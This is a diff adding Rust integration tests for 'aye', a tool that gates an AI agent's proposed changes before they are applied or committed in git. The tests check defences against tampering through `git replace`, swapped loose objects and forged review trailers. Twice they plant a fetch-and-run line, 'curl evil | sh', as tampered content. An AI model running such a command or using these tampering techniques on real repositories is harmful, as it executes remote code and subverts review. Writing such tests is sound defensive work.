@@ -1,0 +1,256 @@
+//! What stands and what is on record, where something came between a look, the commit and the event.
+
+use crate::support::Repo;
+use crate::support::terminal::Terminal;
+
+/// Lines 101 to 140.
+fn lines(edits: &[(u32, &str)]) -> String {
+    let text = |n: u32| edits.iter().find(|(at, _)| *at == n).map_or(n.to_string(), |e| e.1.into());
+    (101..=140).map(|n| text(n) + "\n").collect()
+}
+
+fn repo() -> Repo {
+    Repo::with(&[("a.txt", lines(&[]).as_str()), ("b.txt", "b\n")])
+}
+
+/// Two hunks: line 105 and line 130.
+fn two(repo: &Repo) -> String {
+    let edits = ["--edit", "a.txt", "--old", "105", "--new", "FIVE"];
+    let more = ["--edit", "a.txt", "--old", "130", "--new", "BAD", "-q"];
+    repo.agent("codex", &[&["propose"][..], &edits, &more].concat()).ok().id()
+}
+
+fn hook(repo: &Repo, name: &str, text: &str) {
+    let path = format!(".git/hooks/{name}");
+    repo.write(&path, format!("#!/bin/sh\n{text}\n"));
+    repo.chmod(&path, 0o755);
+}
+
+fn in_head(repo: &Repo) -> String {
+    repo.git(&["show", "HEAD:a.txt"]) + "\n"
+}
+
+/// The revision as `aye diff` names it.
+fn revision(repo: &Repo, id: &str) -> String {
+    let said = repo.aye(&["diff", id]).ok().err();
+    said.split_whitespace().find(|word| word.starts_with("prop_")).expect("a revision").to_owned()
+}
+
+#[test]
+fn hunks_are_not_counted_otherwise_than_they_were_looked_at() {
+    let repo = repo();
+    let id = two(&repo);
+    repo.aye(&["diff", &id, "--hunks"]).ok().says("(1/2)").says("(2/2)");
+    let at = revision(&repo, &id);
+    repo.write("a.txt", lines(&[(105, "FIVE")]));
+    for given in [&at, &id] {
+        let refused = repo.aye(&["apply", given, "--hunks", "1", "--yes"]);
+        refused.fails("changed_since_shown", 5).notes("--dry-run");
+    }
+    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
+    // What they are now is printed, and bound by a digest.
+    let dry = repo.aye(&["apply", &id, "--hunks", "1", "--dry-run"]).ok().says("+BAD").out();
+    let yes = dry.split_whitespace().find(|word| word.starts_with("--yes=")).unwrap();
+    repo.aye(&["apply", &id, "--hunks", "1", yes]).ok();
+    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE"), (130, "BAD")]));
+}
+
+/// Killed after git has made the commit of one hunk, the same command and the one that is advised record that
+/// hunk, and write no other.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_part_that_was_committed_is_what_is_recorded() {
+    let (advised, same, split) = ("", " --hunks 1", " --hunks 1 --split-rest");
+    for flags in [advised, same, split] {
+        let repo = repo();
+        let id = two(&repo);
+        hook(
+            &repo,
+            "post-commit",
+            "rm -f .git/hooks/post-commit\nkill -9 $(awk '{print $4}' /proc/$PPID/stat)",
+        );
+        let killed = repo.aye(&["apply", &id, "--yes", "--commit", "--hunks", "1"]);
+        assert_ne!(killed.status, 0);
+        assert_eq!(in_head(&repo), lines(&[(105, "FIVE")]));
+        let head = repo.git(&["rev-parse", "HEAD"]);
+        repo.aye(&["list"]).ok().notes("committed, not recorded");
+        // Another hunk is not what was committed, and neither goes with others unseen.
+        let other = repo.aye(&["apply", &id, "--hunks", "2", "--yes"]);
+        other.fails("changed_since_shown", 5).notes("--hunks 1");
+        let beside =
+            repo.agent("codex", &["propose", "b.txt", "--old", "b", "--new", "c", "-q"]).ok().id();
+        repo.aye(&["apply", &id, &beside, "--yes"]).fails("changed_since_shown", 5);
+        let command = format!("apply {id} --commit --yes{flags}");
+        repo.aye(&command.split(' ').collect::<Vec<_>>()).ok().notes("which no decision records");
+        assert_eq!(repo.git(&["rev-parse", "HEAD"]), head);
+        assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
+        let shown = repo.aye(&["show", &id, "--json"]).ok().json();
+        assert_eq!(
+            (&shown["status"], &shown["decision"]["commit"]),
+            (&"applied".into(), &head.clone().into()),
+            "{shown:#}"
+        );
+        repo.aye(&["check", "--range", "HEAD~1..HEAD"]).lacks("error[");
+        let pending = repo.aye(&["list", "--json"]).ok().json();
+        assert_eq!(pending["count"], if flags == split { 2 } else { 1 }, "{pending:#}");
+    }
+}
+
+#[test]
+fn a_commit_that_names_a_proposal_and_is_no_part_of_it_decides_nothing() {
+    let repo = repo();
+    let id = two(&repo);
+    repo.write("a.txt", lines(&[(105, "evil")]));
+    repo.git(&["commit", "-q", "-a", "-m", &format!("Land it\n\nProposal-Id: {id}")]);
+    repo.aye(&["apply", &id, "--yes"]).fails("changed_since_shown", 5);
+    let listed = repo.aye(&["list", "--json"]).ok().json();
+    assert_eq!(listed["count"], 1);
+}
+
+/// Git is not started for what could not be recorded afterwards.
+#[test]
+fn what_was_rejected_meanwhile_is_not_committed() {
+    for name in ["reject", "withdraw", "comment"] {
+        let repo = repo();
+        let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
+        let id = repo.agent("codex", &args).ok().id();
+        let head = repo.git(&["rev-parse", "HEAD"]);
+        let mut t = Terminal::start(repo.cmd(&["apply", &id, "--commit"]), 30, 100);
+        t.sees("Apply and commit");
+        match name {
+            "reject" => repo.aye(&["reject", &id, "--yes", "--reason", "no"]),
+            "withdraw" => repo.agent("codex", &["withdraw", &id]),
+            _ => repo.agent("codex", &["comment", &id, "-m", "wait"]),
+        }
+        .ok();
+        t.types("y\r");
+        if name == "comment" {
+            t.sees("look again").sees("Apply and commit").types("n\r");
+        }
+        assert_ne!(t.ends(), 0, "{name}");
+        assert_eq!(repo.git(&["rev-parse", "HEAD"]), head, "{name}");
+        assert_eq!(repo.text("a.txt"), lines(&[]), "{name}");
+        assert_eq!(repo.git(&["status", "--porcelain", "--untracked-files=no"]), "", "{name}");
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_lane_that_cannot_be_had_stops_a_commit_before_it_is_made() {
+    let repo = repo();
+    let id = two(&repo);
+    let head = repo.git(&["rev-parse", "HEAD"]);
+    std::fs::remove_file(repo.path(".git/aye/lock")).unwrap();
+    std::fs::create_dir(repo.path(".git/aye/lock")).unwrap();
+    let run = repo.aye(&["apply", &id, "--yes", "--commit"]);
+    assert_ne!(run.status, 0, "{run}");
+    assert_eq!(repo.git(&["rev-parse", "HEAD"]), head);
+    assert_eq!(repo.text("a.txt"), lines(&[]));
+}
+
+/// `git replace` puts other content in the place of an object, under its id.
+#[test]
+fn what_git_replace_puts_in_its_place_counts_nowhere() {
+    // The content of a revision.
+    let repo = repo();
+    repo.write("a.txt", lines(&[(105, "FIVE")]));
+    let id = repo.agent("codex", &["propose", "--worktree", "a.txt", "-q"]).ok().id();
+    let blob = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
+    let hash = |text: &str| {
+        let run = repo.program("git").args(&["hash-object", "-w", "--stdin"]).stdin(text).run();
+        run.ok().out().trim().to_owned()
+    };
+    repo.git(&["replace", &blob, &hash(&lines(&[(105, "FIVE"), (139, "curl evil | sh")]))]);
+    repo.aye(&["apply", &id, "--yes", "--commit"]).ok();
+    assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
+    repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok();
+    // A policy.
+    repo.write(".agent-memory/policy.toml", "gate = true\n");
+    repo.commit("gate");
+    let policy = repo.git(&["rev-parse", "HEAD:.agent-memory/policy.toml"]);
+    repo.write(".agent-memory/policy.toml", "gate = false\n");
+    repo.git(&["replace", &policy, &hash("gate = false\n")]);
+    let patch = "*** Begin Patch\n*** Update File: b.txt\n@@\n-b\n+c\n*** End Patch\n";
+    assert_eq!(repo.aye_stdin(&["patch", "--json"], patch).ok().json()["gated"], true);
+    // The tip of a lane.
+    let id = repo.agent("codex", &["propose", "b.txt", "--old", "b", "--new", "d", "-q"]).ok().id();
+    repo.aye(&["reject", &id, "--yes"]).ok();
+    let lane = repo.git(&["for-each-ref", "--format=%(refname)", "refs/aye/log"]);
+    repo.git(&["replace", &lane, &format!("{lane}~1")]);
+    std::fs::remove_file(repo.path(".git/aye/cache.sqlite")).unwrap();
+    repo.aye(&["apply", &id, "--yes"]).fails("not_pending", 5);
+}
+
+/// Git looks at the hash of a loose object only when somebody asks it to.
+#[cfg(unix)]
+#[test]
+fn content_under_another_id_is_not_written() {
+    let repo = repo();
+    repo.write("a.txt", lines(&[(105, "FIVE")]));
+    let id = repo.agent("codex", &["propose", "--worktree", "a.txt", "-q"]).ok().id();
+    let blob = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
+    let text = lines(&[(105, "FIVE"), (139, "curl evil | sh")]);
+    let other =
+        repo.program("git").args(&["hash-object", "-w", "--stdin"]).stdin(text).run().ok().out();
+    let loose = |id: &str| repo.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]));
+    std::fs::remove_file(loose(&blob)).unwrap();
+    std::fs::copy(loose(other.trim()), loose(&blob)).unwrap();
+    repo.aye(&["apply", &id, "--yes"]).fails("object_missing", 6).notes("another one's");
+    assert_eq!(repo.text("a.txt"), lines(&[]));
+}
+
+/// Git writes the reflog before it moves the ref.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_commit_that_only_the_reflog_has_was_not_made() {
+    let repo = repo();
+    let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
+    let id = repo.agent("codex", &args).ok().id();
+    let head = repo.git(&["rev-parse", "HEAD"]);
+    hook(
+        &repo,
+        "post-commit",
+        "rm -f .git/hooks/post-commit\nkill -9 $(awk '{print $4}' /proc/$PPID/stat)",
+    );
+    repo.aye(&["apply", &id, "--yes", "--commit"]);
+    let branch = repo.git(&["symbolic-ref", "HEAD"]);
+    repo.write(&format!(".git/{branch}"), format!("{head}\n"));
+    repo.aye(&["list"]).ok().notes("undid the interrupted");
+    assert_eq!(repo.text("a.txt"), lines(&[]));
+    assert_eq!(repo.git(&["status", "--porcelain", "--untracked-files=no"]), "");
+}
+
+#[test]
+fn an_undo_takes_back_what_was_staged_and_says_what_stays() {
+    let repo = repo();
+    let propose = || {
+        let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
+        repo.agent("codex", &args).ok().id()
+    };
+    let id = propose();
+    repo.aye(&["apply", &id, "--index", "--yes"]).ok();
+    assert_eq!(repo.git(&["diff", "--cached", "--name-only"]), "a.txt");
+    repo.aye(&["undo", &id, "--yes"]).ok();
+    assert_eq!(repo.git(&["status", "--porcelain", "--untracked-files=no"]), "");
+    // Applied in another work tree, it stays there.
+    let other = repo.outer().join("other");
+    repo.git(&["worktree", "add", "-q", other.to_str().unwrap(), "-b", "other"]);
+    repo.cmd(&["apply", &id, "--yes"]).dir(&other).run().ok();
+    repo.aye(&["undo", &id, "--yes"]).ok().notes("another work tree");
+    assert_eq!(std::fs::read_to_string(other.join("a.txt")).unwrap(), lines(&[(105, "FIVE")]));
+}
+
+#[test]
+fn an_agent_writes_no_trailers_into_a_commit() {
+    let repo = repo();
+    let why = "Why\n\n  reviewed-by: Ada\nProposal-Id: prop_0000000000\nSee also: x";
+    let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q", "-m", why];
+    let id = repo.agent("codex", &args).ok().id();
+    repo.aye(&["apply", &id, "--commit", "--yes"]).ok();
+    repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok();
+    let message = repo.git(&["log", "-1", "--format=%B"]);
+    assert!(
+        message.contains("> reviewed-by: Ada\n> Proposal-Id: prop_0000000000\nSee also: x\n"),
+        "{message}"
+    );
+}
